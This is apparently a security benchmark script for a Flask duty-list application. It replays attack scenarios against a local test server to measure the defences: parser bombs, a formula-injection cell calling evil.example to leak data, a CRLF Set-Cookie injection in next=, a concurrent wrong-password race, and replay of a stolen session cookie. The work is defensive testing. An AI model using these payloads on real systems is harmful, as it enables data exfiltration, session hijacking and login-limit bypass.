"""The attacker's scenarios of issue 18, rerun: what gets through, with figures.

    python bench/attack_figures.py                    # this checkout, SQLite
    python bench/attack_figures.py --code /work/main  # the same scenarios against another checkout (before)
    DATABASE_URL=postgresql://postgres@127.0.0.1:5432/attack python bench/attack_figures.py   # PostgreSQL, and the
        # race through gunicorn (4 workers, then 4 × 8 threads, scrypt): the database is emptied

1. bomb files (tests/bombs.py): each parsed in a process limited to 1 GB of address space, in the
   sandbox and in-process: outcome, seconds to the answer, peak memory (VmHWM);
   and the sandbox's overhead on a real list (median of 5 parses, .docx and .xlsx);
2. formula cells: an item named =HYPERLINK(…) and the like: live formulas in every Excel download,
   unquoted formula-looking fields in every CSV;
3. awkward characters (U+0001, U+FFFE, tabs, zero-width, RTL, combining marks, emoji) in the database:
   downloads that fail;
4. the sign-in race: 40 simultaneous wrong passwords over HTTP (threaded werkzeug): passwords checked
   against the limit of 5;
5. next= with CR/LF after a successful sign-in: the status;
6. a session cookie copied before sign-out, used after it: the status.
Prints a Markdown table; --json FILE writes the figures.
"""
from __future__ import annotations

import argparse
import importlib.util
import json
import os
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent.parent

PROBE = textwrap.dedent("""
    import json, resource, sys, time
    resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
    from dutylist.documents import file_types
    from dutylist.importers.parsed import ImportFailure
    data = open(sys.argv[1], "rb").read()
    start = time.perf_counter()
    try:
        try:
            file_types.parse_document(data, township="大有镇", isolate=sys.argv[2] == "1")
        except TypeError:  # a checkout without the sandbox
            file_types.parse_document(data, township="大有镇")
        outcome = "parsed"
    except ImportFailure as exc:
        outcome = "refused: " + str(exc).split(" / ")[0]
    except MemoryError:
        outcome = "MemoryError (1 GB reached)"
    peak = next(int(x.split()[1]) for x in open("/proc/self/status") if x.startswith("VmHWM:"))
    print(json.dumps({"outcome": outcome, "seconds": round(time.perf_counter() - start, 2), "peak_mb": peak // 1024}))
""")


def _load(name: str, path: Path):
    spec = importlib.util.spec_from_file_location(name, path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _audit_head() -> None:
    """One audit entry first: on a fresh database the chain's head row is created by the first entry, and
    simultaneous first entries collide on it (a 500 each, once per installation: not the race measured)."""
    from dutylist.extensions import db
    from dutylist.services.audit import record_event

    record_event("bench_start")
    db.session.commit()


def bombs_figures(code: Path) -> list[dict]:
    bombs = _load("attack_bombs", HERE / "tests" / "bombs.py")
    rows = []
    with tempfile.TemporaryDirectory() as tmp:
        for name, make in (("xlsx, one cell at XFD1048576", bombs.xlsx_far_cell),
                           ("xlsx, merged range to XFD1048576", bombs.xlsx_far_merge),
                           ("docx, 100 MB of paragraphs", bombs.docx_paragraphs)):
            data = make()
            path = Path(tmp) / "bomb.bin"
            path.write_bytes(data)
            has_sandbox = (code / "dutylist" / "documents" / "sandbox.py").exists()
            for isolate in ("1", "0") if has_sandbox else ("0",):
                start = time.perf_counter()
                try:
                    done = subprocess.run([sys.executable, "-c", PROBE, str(path), isolate], cwd=code,
                                          capture_output=True, text=True, timeout=300)
                    if done.returncode == 0:
                        result = json.loads(done.stdout.strip().splitlines()[-1])
                    else:
                        result = {"outcome": f"process died (exit {done.returncode}): "
                                             + (done.stderr.strip().splitlines() or [""])[-1][:80],
                                  "seconds": round(time.perf_counter() - start, 1), "peak_mb": "≥1024?"}
                except subprocess.TimeoutExpired:
                    result = {"outcome": "no answer in 300 s", "seconds": 300, "peak_mb": "?"}
                rows.append({"bomb": name, "size_kb": len(data) // 1024,
                             "path": "sandbox" if isolate == "1" else "in-process", **result})
    return rows


def sandbox_overhead(code: Path) -> dict:
    script = textwrap.dedent("""
        import json, statistics, sys, time
        from pathlib import Path
        from dutylist.documents import export_docx, export_xlsx, file_types, model
        from dutylist.importers.text_list import parse_file
        seed = parse_file(sorted(Path("sample_data").glob("*.txt"))[0])
        out = {}
        for kind, data in (("docx", export_docx.to_docx(model.from_parsed(seed))),
                           ("xlsx", export_xlsx.to_xlsx(model.from_parsed(seed)))):
            for isolate in (True, False):
                times = []
                for _ in range(5):
                    t = time.perf_counter()
                    try:
                        file_types.parse_document(data, township="大有镇", isolate=isolate)
                    except TypeError:
                        if isolate:
                            break
                        file_types.parse_document(data, township="大有镇")
                    times.append(time.perf_counter() - t)
                if times:
                    out[f"{kind} {'sandbox' if isolate else 'in-process'} ms"] = round(statistics.median(times) * 1000)
            out[f"{kind} items"] = len(seed.items)
        print(json.dumps(out))
    """)
    done = subprocess.run([sys.executable, "-c", script], cwd=code, capture_output=True, text=True, timeout=600)
    return json.loads(done.stdout.strip().splitlines()[-1]) if done.returncode == 0 else {"error": done.stderr[-300:]}


def web_figures(database_url: str | None) -> dict:
    """Scenarios 2–6 against the app of the checkout on sys.path."""
    import csv
    import http.cookiejar
    import io
    import logging
    import re
    import threading
    import urllib.error
    import urllib.parse
    import urllib.request
    import zipfile
    from datetime import date, timedelta

    from openpyxl import load_workbook
    from werkzeug.serving import make_server

    from dutylist.app import create_app
    from dutylist.extensions import db
    from dutylist.models import User
    from dutylist.services.snapshot import EntryData, publish_version
    from tests.conftest import CsrfClient
    from tests.factories import LEVELS, World
    from workflow import operations as ops

    tmp = tempfile.mkdtemp()
    url = database_url or f"sqlite:///{tmp}/attack.sqlite3"
    app = create_app({"SQLALCHEMY_DATABASE_URI": url, "TESTING": False, "SECRET_KEY": "attack",
                      "PASSWORD_HASH_METHOD": "pbkdf2:sha256:1000"})
    app.test_client_class = CsrfClient
    out: dict = {}
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    awkward = "甲\t乙\n丙 零\u200b宽 e\u0301 😀 \u202e右左\u200f \u0001 \ufffe 末"
    with app.app_context():
        for label, payload in (("formula", formula), ("awkward", awkward)):
            db.session.remove()
            db.drop_all()
            db.create_all()
            world = World()
            rev = ops.start_revision(world.town, world.drafter, title=payload)
            ops.add_item(rev, world.drafter, "basic", {"category": "党的建设", "name": payload}, payload)
            db.session.commit()
            ops.fire(rev, "submit", world.drafter, levels=LEVELS)
            ops.fire(rev, "accept", world.officer, levels=LEVELS, departments=[world.civil.id],
                     deadline=date.today() + timedelta(days=7))
            db.session.commit()
            basic = next(i for i in rev.items if i.name == payload)
            ops.add_opinion(rev, world.civil_user, payload, basic.item_id)
            ops.sign_off(rev, world.civil_user, "with_opinions")
            db.session.commit()
            v2 = publish_version(world.town, [EntryData(i.kind, i.number, i.fields(), i.item_id) for i in rev.items
                                              if not i.deleted], source="import", title=payload)
            db.session.get(User, world.civil_user.id).display_name = payload
            db.session.commit()
            a, town = world.version.id, world.town.id
            urls = [f"/versions/{v2.id}/export.{f}" for f in ("docx", "xlsx", "pdf", "csv", "json")]
            urls += [f"/revisions/{rev.id}/export.{f}" for f in ("docx", "xlsx", "pdf", "csv", "json")]
            urls += [f"/townships/{town}/diff.{f}?a={a}&b={v2.id}" for f in ("docx", "xlsx")]
            urls += [f"/revisions/{rev.id}/diff.{f}" for f in ("docx", "xlsx")]
            urls += [f"/revisions/{rev.id}/opinions/summary.{f}" for f in ("docx", "xlsx")]
            drafter, admin = app.test_client(), app.test_client()
            drafter.login("dayou-drafter")
            admin.login("admin")
            failed, formulas, unquoted, total = [], 0, 0, 0
            for u, client in [(x, drafter) for x in urls] + [("/admin/users/export.xlsx", admin)]:
                try:
                    resp = client.get(u)
                except Exception as exc:  # noqa: BLE001 - a download that raises is a 500 to the user
                    total += 1
                    failed.append(f"{u.split('?')[0]} 500 ({type(exc).__name__})")
                    continue
                if resp.status_code == 503 and ".pdf" in u:
                    continue  # no CJK font here
                total += 1
                if resp.status_code != 200:
                    failed.append(f"{u.split('?')[0]} {resp.status_code}")
                    continue
                if ".xlsx" in u:
                    with zipfile.ZipFile(io.BytesIO(resp.data)) as zf:
                        formulas += sum(len(re.findall(rb"<f[ >]", zf.read(n))) for n in zf.namelist()
                                        if n.startswith("xl/worksheets/"))
                    book = load_workbook(io.BytesIO(resp.data))
                    formulas += sum(1 for ws in book.worksheets for row in ws.iter_rows() for c in row
                                    if c.data_type == "f")
                elif ".csv" in u:
                    for row in csv.reader(io.StringIO(resp.data.decode("utf-8-sig"))):
                        unquoted += sum(1 for f in row if f[:1] in ("=", "+", "-", "@", "\t", "\r"))
            out[label] = {"downloads": total, "failed": failed, "formula_cells": formulas,
                          "csv_fields_unquoted": unquoted}

        # 4–6 over HTTP
        db.session.remove()
        db.drop_all()
        db.create_all()
        World()
        _audit_head()
        logging.getLogger("werkzeug").setLevel(logging.ERROR)
        server = make_server("127.0.0.1", 0, app, threaded=True)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        base = f"http://127.0.0.1:{server.server_port}"

        class NoRedirect(urllib.request.HTTPRedirectHandler):
            def redirect_request(self, *args, **kwargs):
                return None

        def browser():
            jar = http.cookiejar.CookieJar()
            opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(jar), NoRedirect)

            def req(path, data=None, headers=None):
                body = urllib.parse.urlencode(data).encode() if data is not None else None
                try:
                    with opener.open(urllib.request.Request(base + path, data=body, headers=headers or {}),
                                     timeout=120) as r:
                        return r.status, r.read().decode()
                except urllib.error.HTTPError as err:
                    return err.code, err.read().decode()

            def csrf(path="/auth/login"):
                return re.search(r'name="csrf_token"[^>]*value="([^"]+)"', req(path)[1]).group(1)
            return req, csrf, jar

        checked, lock = [], threading.Lock()
        original = User.check_password

        def slow(self, password):
            with lock:
                checked.append(1)
            time.sleep(0.2)  # a production scrypt check takes about this long
            return original(self, password)

        User.check_password = slow
        try:
            clients = [browser() for _ in range(40)]
            tokens = [c[1]() for c in clients]
            barrier = threading.Barrier(40)
            statuses = []

            def attempt(i):
                barrier.wait()
                s = clients[i][0]("/auth/login", {"csrf_token": tokens[i], "username": "dayou-drafter",
                                                  "password": f"wrong-{i}"})[0]
                with lock:
                    statuses.append(s)
            threads = [threading.Thread(target=attempt, args=(i,)) for i in range(40)]
            for t in threads:
                t.start()
            for t in threads:
                t.join()
        finally:
            User.check_password = original
        out["sign_in_race"] = {"attempts": 40, "passwords_checked": len(checked), "limit": 5,
                               "statuses": {str(s): statuses.count(s) for s in sorted(set(statuses))},
                               "database": "postgresql" if database_url else "sqlite"}
        req, csrf, jar = browser()
        db.session.remove()
        db.drop_all()  # a fresh user for the rest (the first is locked now)
        db.create_all()
        World()
        status, _ = req("/auth/login?next=" + urllib.parse.quote("/townships/1\r\nSet-Cookie: evil=1", safe=""),
                        {"csrf_token": csrf(), "username": "dayou-drafter", "password": "test-password-123"})
        out["next_crlf_status"] = status
        req, csrf, jar = browser()
        req("/auth/login", {"csrf_token": csrf(), "username": "dayou-drafter", "password": "test-password-123"})
        cookie = "; ".join(f"{c.name}={c.value}" for c in jar)
        thief = browser()[0]
        before = thief("/", headers={"Cookie": cookie})[0]
        req("/auth/logout", {"csrf_token": csrf("/auth/email")})
        after = thief("/", headers={"Cookie": cookie})[0]
        out["copied_cookie"] = {"before_sign_out": before, "after_sign_out": after}
        server.shutdown()
        db.session.remove()
        db.engine.dispose()
    return out


def gunicorn_race(code: Path, database_url: str, workers: int = 4, threads: int = 8, attempts: int = 50) -> dict:
    """The attacker's race as they ran it: gunicorn with several workers and threads over PostgreSQL, the
    production password hash (scrypt), 50 simultaneous wrong passwords for one user; the passwords
    checked are the failures the audit log holds (one entry per checked password)."""
    import re
    import socket
    import threading
    import urllib.error
    import urllib.parse
    import urllib.request

    from sqlalchemy import func, select

    from dutylist.app import create_app
    from dutylist.extensions import db
    from dutylist.models import AuditEvent
    from tests.factories import World

    app = create_app({"SQLALCHEMY_DATABASE_URI": database_url, "SECRET_KEY": "attack"})
    with app.app_context():
        db.session.remove()
        db.drop_all()
        db.create_all()
        World()  # passwords hashed with scrypt, as in production
        _audit_head()
        db.session.remove()
        db.engine.dispose()
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {**os.environ, "DATABASE_URL": database_url, "SECRET_KEY": "attack"}
    server = subprocess.Popen([sys.executable, "-m", "gunicorn", "-w", str(workers), "--threads", str(threads),
                               "-b", f"127.0.0.1:{port}", "--log-level", "warning", "wsgi:app"], cwd=code, env=env)
    base = f"http://127.0.0.1:{port}"
    try:
        for _ in range(100):
            try:
                urllib.request.urlopen(base + "/auth/login", timeout=2).read()
                break
            except OSError:
                time.sleep(0.3)
        sessions = []
        for _ in range(attempts):
            with urllib.request.urlopen(base + "/auth/login", timeout=30) as r:
                cookie = r.headers["Set-Cookie"].split(";")[0]
                token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', r.read().decode()).group(1)
            sessions.append((cookie, token))
        barrier = threading.Barrier(attempts)
        statuses, lock = [], threading.Lock()

        def attempt(i):
            cookie, token = sessions[i]
            body = urllib.parse.urlencode({"csrf_token": token, "username": "dayou-drafter",
                                           "password": f"wrong-{i}"}).encode()
            barrier.wait()
            try:
                with urllib.request.urlopen(urllib.request.Request(base + "/auth/login", data=body,
                                                                   headers={"Cookie": cookie}), timeout=120) as r:
                    status = r.status
            except urllib.error.HTTPError as err:
                status = err.code
            with lock:
                statuses.append(status)
        started = time.perf_counter()
        threads_ = [threading.Thread(target=attempt, args=(i,)) for i in range(attempts)]
        for t in threads_:
            t.start()
        for t in threads_:
            t.join()
        seconds = time.perf_counter() - started
    finally:
        server.terminate()
        server.wait(30)
    with app.app_context():
        checked = db.session.scalar(select(func.count()).select_from(AuditEvent).where(
            AuditEvent.action == "login_failed", AuditEvent.outcome == "failed"))
        db.session.remove()
        db.engine.dispose()
    return {"workers": workers, "threads": threads, "attempts": attempts, "passwords_checked": checked, "limit": 5,
            "statuses": {str(x): statuses.count(x) for x in sorted(set(statuses))}, "seconds": round(seconds, 2)}


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--code", default=str(HERE), help="the checkout whose app is attacked (default: this one)")
    parser.add_argument("--database-url", default=os.environ.get("DATABASE_URL"))
    parser.add_argument("--skip-bombs", action="store_true")
    parser.add_argument("--json")
    args = parser.parse_args(argv)
    code = Path(args.code).resolve()
    figures: dict = {"code": str(code)}
    if not args.skip_bombs:
        figures["bombs"] = bombs_figures(code)
        figures["sandbox_overhead"] = sandbox_overhead(code)
    sys.path.insert(0, str(code))
    os.chdir(code)
    figures.update(web_figures(args.database_url))
    if args.database_url and args.database_url.startswith("postgres"):
        figures["gunicorn_race"] = [gunicorn_race(code, args.database_url, w, t) for w, t in ((4, 1), (4, 8))]
    print(f"## Attack figures ({code})\n")
    if "bombs" in figures:
        print("| bomb | size | path | outcome | seconds | peak MB |\n| --- | --- | --- | --- | --- | --- |")
        for r in figures["bombs"]:
            print(f"| {r['bomb']} | {r['size_kb']} KB | {r['path']} | {r['outcome'][:90]} | {r['seconds']} | {r['peak_mb']} |")
        print(f"\nsandbox overhead: {figures['sandbox_overhead']}\n")
    for key in ("formula", "awkward", "sign_in_race", "gunicorn_race", "next_crlf_status", "copied_cookie"):
        if key not in figures:
            continue
        print(f"- {key}: {json.dumps(figures[key], ensure_ascii=False)}")
    if args.json:
        Path(args.json).write_text(json.dumps(figures, ensure_ascii=False, indent=2))
    return 0


if __name__ == "__main__":
    sys.exit(main())
